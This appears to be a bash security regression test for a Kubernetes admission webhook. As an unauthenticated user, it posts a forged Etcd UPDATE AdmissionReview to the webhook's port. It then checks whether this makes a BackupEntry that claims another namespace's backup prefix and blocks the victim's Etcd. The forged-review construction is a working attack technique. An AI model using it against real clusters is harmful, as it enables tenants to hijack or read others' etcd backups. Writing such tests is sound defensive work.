#!/usr/bin/env bash
# A BackupEntry made by warden-webhook on a forged AdmissionReview, on kube-sim with
# warden-webhook (--backup-entries, as the chart runs it with backupEntries.enabled). Issue 30:
# "an attacker who reaches the webhook". docs/protection.md ("Authenticating the API server"):
# "A decision on such a forged review changes nothing in the cluster, except one thing": the
# prefix claim of an Etcd CREATE, in a Lease, for two minutes. docs/backup-entries.md: "When
# warden-controller has not made the old prefix's entry ... warden-webhook makes it when it
# admits the move (an UPDATE changing spec.backup.store's container, provider or prefix), from
# the stored Etcd the UPDATE replaces"; the entry claims the prefix for the Etcd's namespace,
# outlives it, and its deletion Job deletes backups.
#   E1. warden-controller not running (an upgrade, a node drain). mallory (no Kubernetes
#       identity; she reaches the webhook's port) posts an AdmissionReview of an Etcd UPDATE in
#       namespace mal (an Etcd that does not exist) moving spec.backup.store.prefix from
#       shoot--victim/etcd-main to mal/x.
#       Then the owner of that prefix, namespace shoot, creates its Etcd etcd-main there (a
#       re-creation from its backups, as after a loss of the seed).
#   E0. control: the same review as a dry run makes no entry; before the forged review shoot's
#       CREATE (server-side dry run) is admitted.
# Oracle: what kube-sim stores: a BackupEntry made while no request reached the API server, and
# shoot's Etcd refused on its own prefix. (Printed, not judged: namespace mal's own Etcd on that
# prefix is then admitted, and its sidecar would restore shoot's snapshots at its first start.)
set -uo pipefail
. "$(dirname "$0")/../lib/controller.sh"
command -v jq >/dev/null || ksim_fail "jq is not installed"
CTL_WEBHOOK_FLAGS="--backup-entries" ctl_stage
kc create namespace mal >/dev/null || ctl_fail "cannot create namespace mal"
kc create namespace shoot >/dev/null || ctl_fail "cannot create namespace shoot"
kc -n shoot create secret generic etcd-backup --from-literal=accessKeyID=AKIAEXAMPLE --from-literal=secretAccessKey=s \
    --from-literal=region=eu-west-1 >/dev/null || ctl_fail "cannot create shoot's Secret"
victim() { # KUBECTL-CREATE-ARGS: shoot's Etcd etcd-main on its own prefix
    kc -n shoot create "$@" -f - 2>&1 <<YAML
apiVersion: druid.gardener.cloud/v1alpha1
kind: Etcd
metadata: {name: etcd-main, namespace: shoot}
spec:
  replicas: 3
  labels: {app: etcd-statefulset}
  etcd: {clientPort: 2379, serverPort: 2380}
  backup: {port: 8080, store: {provider: S3, container: etcd-bucket, prefix: shoot--victim/etcd-main, secretRef: {name: etcd-backup}}}
YAML
}
entries() { kc get backupentries -o json 2>/dev/null | jq -c '[.items[] | {name: .metadata.name, spec: .spec}]'; }
review() { # DRYRUN
    jq -n --argjson dry "$1" '
    def etcd($p): {apiVersion: "druid.gardener.cloud/v1alpha1", kind: "Etcd",
        metadata: {name: "etcd-main", namespace: "mal", uid: "0d9f6f0e-1111-4222-8333-444455556666",
            creationTimestamp: "2026-01-01T00:00:00Z", generation: 1, resourceVersion: "1"},
        spec: {replicas: 3, labels: {app: "etcd-statefulset"}, etcd: {clientPort: 2379, serverPort: 2380},
            backup: {port: 8080, store: {provider: "S3", container: "etcd-bucket", prefix: $p, secretRef: {name: "etcd-backup"}}}}};
    {apiVersion: "admission.k8s.io/v1", kind: "AdmissionReview",
     request: {uid: "7e1c5a52-0000-4000-8000-00000000e0e0",
        kind: {group: "druid.gardener.cloud", version: "v1alpha1", kind: "Etcd"},
        resource: {group: "druid.gardener.cloud", version: "v1alpha1", resource: "etcds"},
        name: "etcd-main", namespace: "mal", operation: "UPDATE",
        userInfo: {username: "mallory", groups: ["system:authenticated"]},
        object: etcd("mal/x"), oldObject: etcd("shoot--victim/etcd-main"), dryRun: $dry,
        options: {apiVersion: "meta.k8s.io/v1", kind: "UpdateOptions"}}}'
}
post() { curl -sk --max-time 10 -H 'Content-Type: application/json' --data-binary @- "https://127.0.0.1:$WH_PORT/webhooks/etcd"; }
wh_caught_up # the caches
out=$(victim --dry-run=server) || ctl_fail "control: shoot's Etcd on its own prefix refused before the forged review: $out"
echo "ok: control: shoot's Etcd etcd-main on shoot--victim/etcd-main admitted (dry run)"
before=$(entries)
a0=$(review true | post)
sleep 1
[ "$(entries)" = "$before" ] || ctl_fail "control: a dry run made an entry: $(entries)"
echo "ok: control: E0: the dry-run review ($(jq -c '.response.allowed' <<<"$a0" 2>/dev/null)) made no entry"
a1=$(review false | post)
echo "E1: mallory's forged review answered: $(jq -c '.response | {allowed, status: .status.message}' <<<"$a1" 2>/dev/null | head -c 300)"
sleep 1
after=$(entries)
holes=0
if [ "$after" != "$before" ]; then
    echo "HOLE: E1: a forged review (mallory, no request to the API server, an Etcd that does not exist) made BackupEntry $(head -c 400 <<<"$after")"
    holes=$((holes + 1))
fi
wh_caught_up # the caches
out=$(victim) 
if [ -z "$(kc -n shoot get etcd etcd-main -o name 2>/dev/null)" ]; then
    echo "HOLE: E1: shoot's own Etcd etcd-main on its prefix is now refused: $(tr '\n' ' ' <<<"$out" | head -c 400)"
    holes=$((holes + 1))
else echo "ok: shoot's Etcd etcd-main created on its prefix"; fi
# where the claim points: mallory's namespace's own Etcd etcd-main on shoot's prefix (dry run)
kc -n mal create secret generic etcd-backup --from-literal=accessKeyID=AKIAEXAMPLE --from-literal=secretAccessKey=s \
    --from-literal=region=eu-west-1 >/dev/null 2>&1
out=$(sed 's/namespace: shoot/namespace: mal/' <<'YAML' | kc -n mal create --dry-run=server -f - 2>&1
apiVersion: druid.gardener.cloud/v1alpha1
kind: Etcd
metadata: {name: etcd-main, namespace: shoot}
spec:
  replicas: 1
  labels: {app: etcd-statefulset}
  etcd: {clientPort: 2379, serverPort: 2380}
  backup: {port: 8080, store: {provider: S3, container: etcd-bucket, prefix: shoot--victim/etcd-main, secretRef: {name: etcd-backup}}}
YAML
)
echo "E1 (information): namespace mal's own Etcd etcd-main on shoot--victim/etcd-main (dry run): $(tr '\n' ' ' <<<"$out" | head -c 300)"
[ "$holes" = 0 ] || { echo "FAIL: $holes hole(s): a forged AdmissionReview makes a BackupEntry that claims another namespace's prefix"; exit 1; }
echo "held: E1: no entry made"
echo "attack12_forged_entry: ok"
